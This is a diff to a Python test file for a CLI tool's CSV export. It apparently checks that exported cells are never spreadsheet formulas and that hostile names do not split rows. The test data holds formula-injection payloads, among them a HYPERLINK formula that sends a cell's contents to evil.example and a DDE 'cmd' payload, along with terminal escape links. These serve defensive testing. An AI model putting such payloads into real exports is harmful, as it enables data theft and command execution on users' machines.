@@ -23,7 +23,14 @@ HARM = {
     "a link": "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\",
     "markup": "[bold red]x[/] [@click=app.quit]y[/]",
 }
-FORMULAS = ['=HYPERLINK("https://evil.example?"&A1;"x")', "+1+cmd|' /C calc'!A0", "@SUM(1)", "\t=1+1", "-2+3"]
+FORMULAS = [
+    "x\r=1+1",
+    '=HYPERLINK("https://evil.example?"&A1;"x")',
+    "+1+cmd|' /C calc'!A0",
+    "@SUM(1)",
+    "\t=1+1",
+    "-2+3",
+]
 WORST = "=1+1" + "".join(HARM.values())
 LISTINGS = [
     ["tasks", "list"],
@@ -73,7 +80,7 @@ def _map_some(cwtui: Cwtui, rows: list[Row], names: list[str]) -> None:
     writer = csv.writer(out)
     writer.writerow(["kind", "marketplace_id", "charge", "connectwise_id"])
     for number, row in enumerate(rows):
-        if number % 3 == 0:
+        if number % 3 == 0 or names[number] in FORMULAS:
             writer.writerow(["customer", f"C{number}", "", row["company"]])
             writer.writerow(["product", f"{names[number]}P{number}", "", row["item"]])
             writer.writerow(["agreement", f"S{number}", "", row["agreement"]])
@@ -139,6 +146,7 @@ def test_no_cell_of_an_export_is_computed(arguments: list[str], hostile: Cwtui, 
     assert hostile.run(*arguments, str(path)).status in {0, 3}
     rows = list(csv.reader(io.StringIO(path.read_text("utf-8"), newline="")))
     assert len(rows) > 1
+    assert {len(row) for row in rows} == {len(rows[0])}, "a name broke its row in two"
     computed = [cell for row in rows for cell in row if cell[:1] in set("=+-@\t\r\n＝＋－＠") and not _is_number(cell)]
     assert computed == []
 
